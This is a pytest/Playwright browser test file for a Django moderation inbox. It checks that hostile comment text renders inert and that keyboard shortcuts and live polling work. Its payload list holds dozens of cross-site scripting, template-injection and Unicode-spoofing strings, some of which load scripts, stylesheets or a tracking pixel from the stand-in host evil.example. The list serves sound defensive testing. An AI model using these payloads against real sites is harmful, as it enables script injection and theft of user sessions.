"""The inbox in Chromium: hostile comment text stays inert, and the keyboard and live updates work.

Each payload, if it ever ran, would set `window.__pwned`, open a dialog or fetch from another
host; the browser_page fixture fails the test if any request leaves 127.0.0.1.
"""

import pytest
from django.conf import settings

from campusvoice.conversations.models import Comment
from campusvoice.conversations.tests.factories import CommentFactory, PostFactory
from campusvoice.conversations.tests.factories_ui import campus_post
from conftest import login_as

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PWN = "window.__pwned=1"
XSS_PAYLOADS = [
    f"<script>{PWN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={PWN}>",
    "<img src=x onerror=\"alert('xss')\">",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<body onload={PWN}>",
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<a href="javascript:{PWN}">click me</a>',
    f"javascript:{PWN}",
    "JaVaScRiPt:alert(1)",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    f"<details open ontoggle={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<form action="javascript:{PWN}"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<img src=https://evil.example/pixel.gif>",
    f"</textarea><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f'"><script>{PWN}</script>',
    f"'><img src=x onerror={PWN}>",
    '<div hx-get="https://evil.example/" hx-trigger="load">htmx</div>',
    f'<div hx-on:click="{PWN}" hx-trigger="load">htmx-on</div>',
    "{{ request.user.password }} {{ settings.SECRET_KEY }}",
    "{% debug %}{% load static %}{% csrf_token %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\u202eevil.exe\u202c txt.exe",
    "user\u2066admin\u2069 \u2067rtl\u2069",
    "zero\u200bwidth\u200cjoin\u200dner\u200e\u200f\ufeff",
    "A" * 100_000,
    ("https://example.org/" + "a" * 5000),
    "<marquee onstart=" + PWN + ">x</marquee>",
    f"<x contenteditable onblur={PWN}>lose focus</x>",
    f'<svg><a xlink:href="javascript:{PWN}"><text x=20 y=20>XSS</text></a></svg>',
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    "\x00<script>null</script>",
]


def _as_moderator(page, live_server, moderator, client):
    login_as(client, moderator)
    page.context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": live_server.url,
            }
        ]
    )


def _assert_inert(page, dialogs):
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert (
        page.evaluate(
            "document.querySelectorAll('.comment-text a, .comment-text script, .comment-text img').length"
        )
        == 0
    )
    assert page.evaluate("document.querySelectorAll('a[href^=\"javascript:\" i]').length") == 0
    width = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert width[0] <= width[1], f"page is {width[0]}px wide in a {width[1]}px viewport"


def test_hostile_comments_stay_inert_in_the_queue_and_the_thread(
    browser_page, live_server, moderator, client
):
    page = browser_page
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    post, _ = campus_post(message=XSS_PAYLOADS[0] + XSS_PAYLOADS[2])
    comments = [
        CommentFactory(
            post=post, text=payload.replace("\x00", ""), author_name=payload[:200].replace("\x00", "")
        )
        for payload in XSS_PAYLOADS
    ]
    first = comments[0]
    CommentFactory(post=post, parent=first, text=XSS_PAYLOADS[3])
    _as_moderator(page, live_server, moderator, client)
    page.set_viewport_size({"width": 1280, "height": 900})

    page.goto(f"{live_server.url}/inbox/?sort=time")
    page.wait_for_selector("tr[data-row]")
    assert page.locator("tr[data-row]").count() == len(XSS_PAYLOADS) + 1
    _assert_inert(page, dialogs)
    # The bidi override is shown as a visible marker, not obeyed.
    assert page.locator(".ctrl-char", has_text="U+202E").count() >= 1
    page.locator("details.comment-more summary").first.click()
    _assert_inert(page, dialogs)

    for comment in (first, comments[-7], comments[XSS_PAYLOADS.index("A" * 100_000)]):
        page.goto(f"{live_server.url}/inbox/{comment.pk}/")
        page.wait_for_selector(".thread-current")
        assert "__pwned" not in page.title()
        _assert_inert(page, dialogs)

    page.goto(f"{live_server.url}/inbox/?q=script")
    _assert_inert(page, dialogs)
    page.set_viewport_size({"width": 390, "height": 800})
    page.goto(f"{live_server.url}/inbox/{comments[XSS_PAYLOADS.index('A' * 100_000)].pk}/")
    _assert_inert(page, dialogs)
    assert page.csp_violations == []


def test_the_keyboard_moves_and_acts_on_rows(browser_page, live_server, moderator, client):
    page = browser_page
    older = CommentFactory(text="first in line", priority=5)
    newer = CommentFactory(text="second in line", priority=1)
    _as_moderator(page, live_server, moderator, client)

    page.goto(f"{live_server.url}/inbox/")
    page.wait_for_selector("tr[data-row]")
    page.keyboard.press("j")
    assert page.locator("tr.is-current").get_attribute("id") == f"comment-row-{older.pk}"
    page.keyboard.press("j")
    page.keyboard.press("k")
    page.keyboard.press("a")
    # The row comes back from the server; the keyboard stays on it once htmx has settled it.
    page.wait_for_selector(f"#comment-row-{older.pk}.is-current >> text=In progress")
    page.keyboard.press("d")
    page.wait_for_selector(f"#comment-row-{older.pk} >> text=Reopen")
    assert Comment.objects.get(pk=older.pk).status == Comment.Status.DONE
    assert Comment.objects.get(pk=older.pk).assignee == moderator
    assert Comment.objects.get(pk=newer.pk).status == Comment.Status.NEW

    page.keyboard.press("?")
    assert page.locator("#inbox-help").is_visible()
    page.keyboard.press("?")
    assert not page.locator("#inbox-help").is_visible()


def test_new_comments_are_announced_and_shown_without_a_reload(browser_page, live_server, moderator, client):
    page = browser_page
    post = PostFactory()
    CommentFactory(post=post, text="already here")
    _as_moderator(page, live_server, moderator, client)
    page.goto(f"{live_server.url}/inbox/")
    page.wait_for_selector("tr[data-row]")
    page.evaluate("window.__marker = 1")  # gone if the page reloads

    arrived = CommentFactory(post=post, text="just arrived")
    page.evaluate("htmx.trigger('#inbox-poll', 'cv:poll')")
    page.wait_for_selector("text=1 new comment — show")
    page.get_by_role("button", name="1 new comment — show").click()
    page.wait_for_selector(f"#comment-row-{arrived.pk}")

    assert page.evaluate("window.__marker") == 1
    assert page.locator("tr[data-row]").first.get_attribute("id") == f"comment-row-{arrived.pk}"
    assert f"after={arrived.pk}" in page.locator("#inbox-poll").get_attribute("hx-get")
